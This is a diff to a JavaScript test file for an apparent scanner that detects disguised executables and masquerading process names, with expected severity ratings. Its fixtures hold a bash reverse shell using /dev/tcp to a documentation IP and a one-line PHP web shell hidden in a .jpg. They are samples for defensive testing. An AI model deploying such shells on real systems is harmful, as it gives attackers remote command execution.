@@ -14,7 +14,7 @@ test('everyday names are nothing', () => {
 	expect(
 		ask({
 			'/usr/sbin/sshd': program, '/usr/bin/kworker-tool': program, '/home/ann/p.png': Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), '/home/ann/notes.txt': '#!/bin/sh\n', '/home/ann/x.svg': '<svg/>', '/etc/init.d/cron': script, '/etc/pam.d/su': 'x',
-			'/home/ann/venv/bin/sh': program, '/home/ann/src/crypto': program, '/usr/local/bin/ps': program, '/opt/app/bin/init': program, '/etc/cron.daily/passwd': script, '/home/ann/a.jpg': 'not really a picture', '/home/ann/node_modules/x/test.txt': script,
+			'/home/ann/venv/bin/sh': program, '/home/ann/src/crypto': program, '/usr/local/bin/ps': program, '/opt/app/bin/init': program, '/opt/lampp/nginx': program, '/etc/cron.daily/passwd': script, '/home/ann/a.jpg': 'not really a picture', '/home/ann/node_modules/x/test.txt': script,
 			'/var/lib/docker/overlay2/a/diff/x/kworker': program, '/home/ann/readme.md': '#!shebang is a word\n', '/tmp/hosts': program,
 		}),
 	).toEqual([]);
@@ -23,10 +23,10 @@ test('under the names of others', () => {
 	expect(
 		ask({
 			'/var/www/html/logo.png': program, '/home/ann/doc.pdf': script, '/tmp/a.log': script, '/usr/share/doc/readme.txt': { content: '#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4 0>&1\n', mode: 0o755 }, '/usr/share/doc/own.txt': script, '/var/www/up/x.jpg': '<?php system($_GET["c"]);', '/usr/share/pixmaps/t.gif': { content: elf }, '/home/ann/bin/[kworker]': program,
-			'/usr/local/bin/kworker': program, '/tmp/sshd': program, '/var/lib/misc/crond': program, '/usr/sbin/sysIogd': program, '/usr/bin/1s': program, '/usr/sbin/sytsemd': program, '/home/ann/sshd': program, '/dev/shm/kthreadd': { content: elf, mode: 0o700 },
+			'/usr/local/bin/kworker': program, '/tmp/sshd': program, '/var/lib/misc/crond': program, '/opt/google/chrome/crond': program, '/usr/sbin/sysIogd': program, '/usr/bin/1s': program, '/usr/sbin/sytsemd': program, '/home/ann/sshd': program, '/dev/shm/kthreadd': { content: elf, mode: 0o700 },
 		}),
 	).toEqual([
-		'high /dev/shm/kthreadd', 'medium /home/ann/bin/[kworker]', 'high /home/ann/doc.pdf', 'low /home/ann/sshd', 'medium /tmp/a.log', 'high /tmp/sshd', 'high /usr/bin/1s', 'high /usr/local/bin/kworker', 'high /usr/sbin/sysIogd', 'high /usr/sbin/sytsemd',
+		'high /dev/shm/kthreadd', 'medium /home/ann/bin/[kworker]', 'high /home/ann/doc.pdf', 'low /home/ann/sshd', 'high /opt/google/chrome/crond', 'medium /tmp/a.log', 'high /tmp/sshd', 'high /usr/bin/1s', 'high /usr/local/bin/kworker', 'high /usr/sbin/sysIogd', 'high /usr/sbin/sytsemd',
 		'low /usr/share/doc/own.txt', 'critical /usr/share/doc/readme.txt', 'high /usr/share/pixmaps/t.gif', 'high /var/lib/misc/crond', 'high /var/www/html/logo.png', 'high /var/www/up/x.jpg',
 	]);
 });
